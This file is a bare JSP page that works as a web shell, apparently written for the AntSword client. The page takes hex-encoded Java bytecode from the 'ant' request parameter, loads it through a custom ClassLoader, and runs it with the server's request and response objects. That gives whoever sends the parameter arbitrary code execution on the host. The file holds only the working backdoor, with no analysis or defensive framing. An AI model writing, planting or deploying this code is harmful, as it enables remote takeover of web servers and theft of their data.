<%!
    class Ld extends ClassLoader {
        Ld(ClassLoader c) { super(c); }
        public Class load(byte[] b) { return super.defineClass(b, 0, b.length); }
    }
    public byte[] unhex(String s) {
        int n = s.length();
        byte[] out = new byte[n / 2];
        for (int i = 0; i < n; i += 2) {
            out[i / 2] = (byte) ((Character.digit(s.charAt(i), 16) << 4) + Character.digit(s.charAt(i + 1), 16));
        }
        return out;
    }
%>
<%
    String cls = request.getParameter("ant");
    if (cls != null) {
        new Ld(this.getClass().getClassLoader()).load(unhex(cls)).newInstance().equals(new Object[]{request, response});
    }
%>
